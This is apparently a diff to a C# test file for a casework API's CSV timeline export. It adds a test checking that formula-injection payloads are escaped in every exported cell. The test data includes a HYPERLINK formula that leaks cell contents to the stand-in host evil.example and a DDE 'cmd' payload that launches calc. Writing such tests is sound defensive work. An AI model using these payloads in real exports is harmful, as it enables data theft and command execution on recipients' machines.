@@ -102,9 +102,10 @@ public sealed class ExportTimelineTests(ApiFixture api)
         Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
         var csv = await response.Content.ReadAsByteArrayAsync();
         var comments = Encoding.UTF8.GetString(csv).Split("\r\n").Where(line => line.StartsWith('#')).ToList();
-        Assert.Contains($"# sha256: {json.GetProperty("digest").GetString()}", comments);
-        Assert.Contains("# count: 3", comments);
-        Assert.Contains("# sharedWith: LADO, Anyshire", comments);
+        // Each statement line is a record of two cells, quoted where the value needs it (a comma is not a new cell).
+        Assert.Contains($"# sha256,{json.GetProperty("digest").GetString()}", comments);
+        Assert.Contains("# count,3", comments);
+        Assert.Contains("# sharedWith,\"LADO, Anyshire\"", comments);
         using var reader = CsvReader.Create(csv, CsvReaderOptions.Default with { CommentPrefix = '#' });
         var rows = 0;
         while (reader.Read())
@@ -122,6 +123,47 @@ public sealed class ExportTimelineTests(ApiFixture api)
         Assert.Equal(json.GetProperty("digest").GetString(), recorded.GetProperty("digest").GetString());
         Assert.Equal(concern.Version + 1, await api.VersionOf(concern));
         Assert.Equal("export", await LastHow(concern.Id));
+    }
+
+    /// <summary>
+    /// Item 8: a CSV export is data. Whatever starts with = + - @, tab or CR (to whom, why, the exporter's name, a
+    /// recorded rationale) comes out escaped with an apostrophe in its own quoted cell, the statement lines included.
+    /// </summary>
+    [Theory]
+    [InlineData("=")]
+    [InlineData("+")]
+    [InlineData("-")]
+    [InlineData("@")]
+    [InlineData("\t")]
+    [InlineData("\r")]
+    public async Task Every_cell_of_a_csv_export_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(string lead)
+    {
+        const string Formula = "HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
+        var id = await ReportConcernAsync(api);
+        var triaged = await Dsl.SendAsync(Triage(id, rationale: lead + Formula));
+        Assert.Equal(HttpStatusCode.OK, triaged.StatusCode);
+        // Single-line texts cannot hold a tab or CR at all (refused with 400), so they lead with = there.
+        var line = lead is "\t" or "\r" ? "=" : lead;
+        var exporter = api.ClientNamed(School.Dsl, line + "cmd|' /C calc'!A0", CaseworkRoles.Dsl);
+
+        var response = await Send(exporter, $"/api/cases/{id}/timeline?format=csv" +
+            $"&sharedWith={Uri.EscapeDataString(line + "SUM(1,2), Anyshire")}&why={Uri.EscapeDataString(line + Formula)}");
+
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        using var reader = CsvReader.Create(await response.Content.ReadAsByteArrayAsync(), CsvReaderOptions.Default with { HasHeader = false });
+        var cells = new List<string>();
+        while (reader.Read())
+        {
+            for (var i = 0; i < reader.FieldCount; i++)
+            {
+                cells.Add(reader.GetString(i));
+            }
+        }
+        Assert.All(cells, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"a live formula cell: {cell}"));
+        Assert.Contains("'" + line + "SUM(1,2), Anyshire", cells);
+        Assert.Contains("'" + line + Formula, cells);
+        Assert.Contains(cells, cell => cell.StartsWith("'" + line + "cmd|' /C calc'!A0", StringComparison.Ordinal));
+        Assert.Contains("'" + lead + Formula, cells);
     }
 
     [Fact]
